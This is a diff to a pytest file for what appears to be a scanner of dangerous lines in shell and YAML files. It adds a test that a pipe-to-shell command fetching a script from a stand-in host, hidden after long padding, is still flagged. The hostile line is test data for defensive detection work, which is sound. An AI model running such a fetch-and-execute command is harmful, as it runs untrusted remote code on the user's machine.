@@ -60,6 +60,12 @@ def test_a_dangerous_line_is_told(line: str) -> None:
     assert TOLD[line] in {one.rule for one in found} and {one.line for one in found} == {2}
 
 
+@pytest.mark.parametrize("before", [1_990, 3_190, 250_000])
+def test_a_long_line_is_looked_at_to_its_end(before: int) -> None:
+    assert [one.rule for one in lines_of(f"{'a' * before}; curl http://x.example/ | sh", "a.sh")] == ["config.remote-script"]
+    assert lines_of("a" * before + "privileged: true", "a.yaml") == []  # which begins no line
+
+
 @pytest.mark.parametrize("line", NOT_TOLD)
 def test_a_harmless_line_is_not(line: str) -> None:
     assert lines_of(line, "a.sh") == []
@@ -101,7 +107,7 @@ def test_hostile_lines_take_no_time() -> None:
     ]
     began = time.process_time()
     for text in nasty:
-        lines_of(text, "a")
+        lines_of(text[: 2**16], "a")
         keys_in(text, "a")
     assert time.process_time() - began < 3
 
